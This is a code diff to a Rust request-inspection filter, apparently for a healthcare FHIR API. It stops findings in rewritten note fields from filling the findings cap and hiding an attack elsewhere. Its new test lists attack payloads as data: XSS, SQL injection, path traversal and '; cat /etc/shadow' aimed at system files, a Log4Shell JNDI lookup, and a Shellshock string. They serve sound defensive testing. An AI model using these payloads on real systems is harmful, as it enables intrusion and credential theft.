@@ -374,23 +374,49 @@ fn header_hit(name: &http::HeaderName, raw: &[u8]) -> Option<Hit> {
     })
 }
 
-struct Findings(Vec<Finding>);
+/// What inspection has found so far. It stops looking once [`MAX_FINDINGS`] are found, except
+/// that findings in a `neutralise` route's named body fields do not count: those fields are
+/// rewritten whatever they hold, their findings are many by design (every note a patient wrote
+/// with markup), and they must not end inspection before an attack elsewhere is found.
+#[derive(Default)]
+struct Findings {
+    list: Vec<Finding>,
+    /// The named fields of a `neutralise` route.
+    neutralised: Vec<String>,
+    /// How many findings count toward the cap.
+    counted: usize,
+}
 
 impl Findings {
+    /// Findings for a body on `route`.
+    fn for_route(route: &RouteInspection) -> Self {
+        Self {
+            neutralised: if route.mode == Mode::Neutralise {
+                route.neutralise.clone()
+            } else {
+                Vec::new()
+            },
+            ..Self::default()
+        }
+    }
+
     /// Keep `hit`, made in `place` at the field `field` names (only asked for on a hit).
     /// Returns whether the findings are full.
     fn add(&mut self, hit: Option<Hit>, place: Place, field: impl FnOnce() -> String) -> bool {
         if let Some(hit) = hit {
             let field = field();
             if !self
-                .0
+                .list
                 .iter()
                 .any(|f| f.hit == hit && f.place == place && f.field == field)
             {
-                self.0.push(Finding { hit, place, field });
+                if !(place == Place::Body && self.neutralised.contains(&field)) {
+                    self.counted += 1;
+                }
+                self.list.push(Finding { hit, place, field });
             }
         }
-        self.0.len() >= MAX_FINDINGS
+        self.counted >= MAX_FINDINGS
     }
 }
 
@@ -487,7 +513,7 @@ fn content_type(headers: &HeaderMap) -> &str {
 pub fn check_body(body: &[u8], headers: &HeaderMap, route: &RouteInspection) -> BodyCheck {
     use crate::decision::{Reason, Refusal};
     let content_type = content_type(headers);
-    let mut found = Findings(Vec::new());
+    let mut found = Findings::for_route(route);
     let mut changes = Vec::new();
     let neutralised: &[String] = if route.mode == Mode::Neutralise {
         &route.neutralise
@@ -585,7 +611,7 @@ pub fn check_body(body: &[u8], headers: &HeaderMap, route: &RouteInspection) -> 
                     // a file in it. (A finding that refuses it already names what it is.)
                     Err(e)
                         if memchr::memmem::find(body, b"data").is_some()
-                            && route.refusing(&route.keep(found.0.clone())).is_none() =>
+                            && route.refusing(&route.keep(found.list.clone())).is_none() =>
                     {
                         return BodyCheck::refuse(Refusal::new(
                             Reason::ProtocolMalformedBody,
@@ -645,7 +671,7 @@ pub fn check_body(body: &[u8], headers: &HeaderMap, route: &RouteInspection) -> 
             }
         }
     }
-    let findings = route.keep(found.0);
+    let findings = route.keep(found.list);
     let refusal = route.refusing(&findings).map(refusal);
     BodyCheck {
         findings,
@@ -861,12 +887,12 @@ pub fn warm_up() -> Vec<Finding> {
 
 /// Inspect a request's head (path, query, cookies, headers) and, when given, its body.
 pub fn inspect(target: &Target<'_>) -> Vec<Finding> {
-    let mut found = Findings(Vec::new());
+    let mut found = Findings::default();
     inspect_head(target, &mut found);
     if let Some(body) = target.body {
         inspect_body(body, &body_kind(content_type(target.headers)), &mut found);
     }
-    found.0
+    found.list
 }
 
 fn inspect_head(target: &Target<'_>, found: &mut Findings) {
@@ -1205,6 +1231,73 @@ mod tests {
             seen += 1;
         }
         assert!(seen > 150, "the notes were read: {seen}");
+    }
+
+    /// On a `neutralise` route, findings in the named fields are many by design (every note a
+    /// patient wrote with markup); they must not fill the findings and end inspection before
+    /// an attack outside the named fields is found. JSON and XML alike.
+    #[test]
+    fn findings_in_neutralised_fields_do_not_hide_an_attack_elsewhere() {
+        let route = RouteInspection {
+            mode: Mode::Neutralise,
+            neutralise: vec!["note.text".into()],
+            ..RouteInspection::default()
+        };
+        let payloads = [
+            "<script>alert(1)</script>",
+            "' or 1=1 --",
+            "../../../../etc/passwd",
+            "${jndi:ldap://x.example/a}",
+            "{{7*7}}",
+            "<?php system('id'); ?>",
+            "; cat /etc/shadow",
+            "<img src=x onerror=alert(1)>",
+            "union select password from users",
+            "javascript:alert(document.cookie)",
+            "() { :; }; /bin/bash -c id",
+            "<!--#exec cmd=\"id\"-->",
+        ];
+        let notes: Vec<String> = payloads
+            .iter()
+            .map(|p| serde_json::json!({ "text": p }).to_string())
+            .collect();
+        let attack = "1' union select password from users--";
+        let json = format!(
+            r#"{{"note":[{}],"code":{{"text":"{attack}"}}}}"#,
+            notes.join(",")
+        );
+        let mut headers = HeaderMap::new();
+        headers.insert(
+            http::header::CONTENT_TYPE,
+            http::HeaderValue::from_static("application/fhir+json"),
+        );
+        let checked = check_body(json.as_bytes(), &headers, &route);
+        assert!(
+            checked.findings.len() > MAX_FINDINGS,
+            "the notes fill the findings: {:?}",
+            checked.findings
+        );
+        let refusal = checked.refusal.expect("the attack in code.text is refused");
+        assert!(refusal.detail.contains("body"), "{refusal:?}");
+        let xml_notes: String = payloads
+            .iter()
+            .map(|p| {
+                format!(
+                    r#"<note><text value="{}"/></note>"#,
+                    quick_xml::escape::escape(*p)
+                )
+            })
+            .collect();
+        let xml = format!(
+            r#"<Observation>{xml_notes}<code><text value="{}"/></code></Observation>"#,
+            quick_xml::escape::escape(attack)
+        );
+        headers.insert(
+            http::header::CONTENT_TYPE,
+            http::HeaderValue::from_static("application/fhir+xml"),
+        );
+        let checked = check_body(xml.as_bytes(), &headers, &route);
+        assert!(checked.refusal.is_some(), "xml: {:?}", checked.findings);
     }
 
     fn findings(
